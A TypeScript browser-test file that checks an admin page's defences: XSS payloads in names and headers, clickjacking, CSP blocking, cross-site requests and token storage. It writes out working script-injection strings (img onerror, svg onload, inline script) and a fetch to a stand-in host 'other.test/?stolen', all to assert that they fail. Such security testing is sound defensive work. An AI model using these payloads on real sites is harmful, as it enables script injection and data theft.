// The page of the admin listener against names that hold markup and pages that mean harm, in a real browser. Rows of
// test/hostile/README.md, by their ids.

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page, Route } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { atTestEnd } from '../support/cleanup.ts';
import { AdminPage, adminUrl } from './admin-page.ts';
import { findChromium, LAUNCH_MS, launchChromium } from './chromium.ts';
import { joined, startScene } from './page-scene.ts';

const TEST_MS = 60_000;
const TOKEN = 'correct-horse-battery';
const UNAUTHORIZED = 'said: Failed to load resource: the server responded with a status of 401 (Unauthorized)';
const EVIL = '"\'><img src=x onerror="globalThis.harmed=1"><script>globalThis.harmed=2</script></noscript><b>';

const executable = findChromium();

let browser: Browser;

/** Every text of a view, with harm behind it. */
function poisoned(value: unknown): unknown {
  if (typeof value === 'string') return `${value}${EVIL}`;
  if (Array.isArray(value)) return value.map(poisoned);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, poisoned(one)]));
}

async function answerPoisoned(route: Route): Promise<void> {
  const response = await route.fetch();
  await route.fulfill({ response, json: poisoned(await response.json()) });
}

/** A stream of one second and the parts, as long as that is enough: then it ends, and the page asks again. */
async function streamPoisoned(route: Route): Promise<void> {
  const url = route.request().url();
  const ask = async (path: string): Promise<unknown> =>
    (await route.fetch({ url: url.replace('events', path) })).json();
  const upstreams = (await ask('upstreams')) as { upstreams: unknown };
  const parts = { status: await ask('status'), ...upstreams, routes_total: 2, targets_total: 4 };
  const second = {
    figures: {},
    ends: [{ by: 'client', reason: 'client_close', code: '1000', count: 1 }],
    limits: [{ limit: 'max_message_size', from: 'client', hits: 1 }],
    workers: [{ pid: 1, state: 'ready', sessions: 1, memory_bytes: 1, loop_lag_ms: 1, cpu_share: 0.1 }],
  };
  const events = { second: { at: Date.now(), ...(poisoned(second) as object) }, parts: poisoned(parts) };
  const body = Object.entries(events).map(([name, data]) => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`);
  await route.fulfill({ contentType: 'text/event-stream', body: body.join('') });
}

/** What no text may have become. */
async function harmOf(page: Page): Promise<unknown> {
  const made =
    'document.querySelectorAll("img, iframe, object, script:not([src]), [onerror], [href^=javascript]").length';
  return page.evaluate(`[globalThis.harmed ?? null, ${made}]`);
}

/** A site of somebody else. */
async function otherSite(html: string): Promise<string> {
  const server = createServer((_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  atTestEnd(() => {
    server.closeAllConnections();
    server.close();
  });
  return `http://other.test:${(server.address() as AddressInfo).port}/`;
}

describe.skipIf(executable === null)('the page', { timeout: TEST_MS }, () => {
  beforeAll(async () => {
    browser = await launchChromium(executable ?? '', []);
  }, LAUNCH_MS);

  afterAll(async () => {
    await browser?.close();
  }, LAUNCH_MS);

  describe('G30: names that hold markup', () => {
    const path = `/chat/${encodeURIComponent(EVIL)}/%3Cimg%20src=x%20onerror=alert(1)%3E`;
    const fields = { 'User-Agent': EVIL, 'X-Request-Id': EVIL, Referer: EVIL };

    test('G30: of clients are text, with scripts and without', async () => {
      const { running } = await startScene({ open: 0 });
      await joined(running, path, fields);
      await joined(running, '/chat/a?"><svg/onload=alert(1)>', fields).catch(() => {});
      const view = await (await AdminPage.open(browser, running)).live();
      await view.shows('#session-list tr', '%3Cscript%3E');
      await view.page.locator('#session-list button.link').first().click();
      await view.shows('#sheet-facts', '%3Cscript%3E');
      const plain = await AdminPage.open(browser, running, { scripts: false });
      expect(await plain.text('body')).toContain('%3Cscript%3E');
      expect([await harmOf(view.page), view.faults, plain.faults]).toEqual([[null, 0], [], []]);
      expect(await plain.page.locator('img, svg, b').count()).toBe(0);
    });

    test('G30: at every place that the page shows are text', async () => {
      const { running, ended } = await startScene({ open: 2 });
      const view = await AdminPage.open(browser, running);
      await view.page.route('**/api/v1/events', streamPoisoned);
      await view.page.route(/api\/v1\/(advice|sessions)/, answerPoisoned);
      await view.page.reload();
      await view.shows('#facts', EVIL);
      for (const place of ['#route-list', '#upstream-list', '#ends-matrix', '#limits', '#listeners', '#workers']) {
        await view.shows(place, EVIL);
      }
      await view.shows('#session-list', EVIL);
      await view.page.locator('#lookup-id').fill(ended);
      await view.button('Why?').click();
      await view.shows('#sheet-why', EVIL);
      for (const place of ['#sheet-facts', '#sheet-record', '#sheet-change']) await view.shows(place, EVIL);
      await view.page.keyboard.press('Escape');
      await view.page.locator('#upstream-list button').first().click();
      await view.shows('dialog[open] h2', EVIL);
      expect([await harmOf(view.page), view.faults]).toEqual([[null, 0], []]);
    });
  });

  test('G31: a site that puts the page into a frame has an empty one', async () => {
    const { running } = await startScene({ open: 1 });
    const frame = `<iframe src="${adminUrl(running)}"></iframe>`;
    // Whoever asks from the same place passes the guard of other sites: then it is up to the policy.
    for (const url of [await otherSite(`<!doctype html>${frame}`), adminUrl(running)]) {
      const page = await browser.newPage();
      atTestEnd(() => page.close());
      const said: string[] = [];
      page.on('console', (message) => said.push(message.text()));
      await page.goto(url);
      if (url === adminUrl(running)) {
        await page.evaluate(`document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(frame)})`);
      }
      await expect.poll(() => said.join()).toContain("frame-ancestors 'none'");
      expect(await page.frames()[1]?.content()).not.toContain('framegate');
    }
  });

  test('G32: if markup got in it would not run, and nothing is sent to or taken from another host', async () => {
    const { running } = await startScene({ open: 1 });
    const view = await (await AdminPage.open(browser, running)).live();
    const refused = await view.page.evaluate<string[]>(`new Promise((resolve) => {
      const refused = new Set();
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        refused.add(effectiveDirective);
        if (refused.size === 7) resolve([...refused].sort());
      });
      const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
      add('<img src=page/icon.svg onload="globalThis.harmed=1">');
      add('<img src="http://other.test/x"><base href="http://other.test/"><style>body{color:red}</style>');
      const script = document.createElement('script');
      script.textContent = 'globalThis.harmed=2';
      document.body.append(script);
      fetch('http://other.test/?stolen').catch(() => {});
      add('<form id="evil" action="http://other.test/"><input name="a" value="b"></form>');
      document.getElementById('evil').submit();
      setTimeout(() => resolve([...refused].sort()), 5000);
    })`);
    expect(refused).toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]);
    expect(await view.page.evaluate('globalThis.harmed ?? null')).toBeNull();
    expect(view.faults.filter((fault) => fault.startsWith('asked'))).toEqual([]);
  });

  test("G33: a site of somebody else reads nothing and does nothing, with the reader's browser", async () => {
    const { running } = await startScene({ open: 1 });
    const page = await browser.newPage();
    atTestEnd(() => page.close());
    await page.goto(await otherSite('<!doctype html><title>x</title>'));
    const asking = (path: string, options: object): Promise<string> =>
      page.evaluate(
        `fetch(${JSON.stringify(adminUrl(running) + path)}, ${JSON.stringify(options)})
          .then((answer) => answer.type + ' ' + answer.status, () => 'failed')`,
      );
    for (const path of ['api/v1/events', 'api/v1/history', 'api/v1/sessions']) {
      expect(await asking(path, {})).toBe('failed');
      expect(['failed', 'opaque 0']).toContain(await asking(path, { mode: 'no-cors' }));
    }
    const drain = 'api/v1/upstreams/chat/targets/chat-1/drain';
    expect(['failed', 'opaque 0']).toContain(await asking(drain, { method: 'POST', mode: 'no-cors' }));
    await page.setContent(`<form method="post" action="${adminUrl(running)}api/v1/drain"></form>`);
    await page.evaluate('document.forms[0].submit()');
    await page.waitForURL(`${adminUrl(running)}**`);
    expect(await page.locator('body').innerText()).toContain('cross_site');
    expect(running.logsOf('admin.action')).toEqual([]);
  });

  test('G34: the token is asked for, told to be wrong, and kept in no place that lasts', async () => {
    const { running } = await startScene({ token: TOKEN });
    const view = await AdminPage.open(browser, running);
    await view.page.locator('#token').waitFor();
    expect(await view.hasFocus('#token')).toBe(true);
    expect(await view.page.locator('#main').isVisible()).toBe(false);
    await view.unlock('wrong');
    await view.shows('#door-fault', 'not right');
    await view.unlock('grüße');
    await view.shows('#door-fault', 'printable ASCII');
    await view.unlock(TOKEN);
    await view.live();
    expect(await view.page.evaluate('document.documentElement.outerHTML')).not.toContain(TOKEN);
    expect(await view.page.evaluate('document.getElementById("token").value')).toBe('');
    expect(await view.page.evaluate('[localStorage.length, sessionStorage.length, document.cookie]')).toEqual([
      0,
      0,
      '',
    ]);
    expect(await view.context.cookies()).toEqual([]);
    expect(view.asked.filter((line) => line.includes(TOKEN))).toEqual([]);
    await view.page.reload();
    await view.page.locator('#token').waitFor();
    expect(view.faults.filter((fault) => fault !== UNAUTHORIZED)).toEqual([]);
  });
});
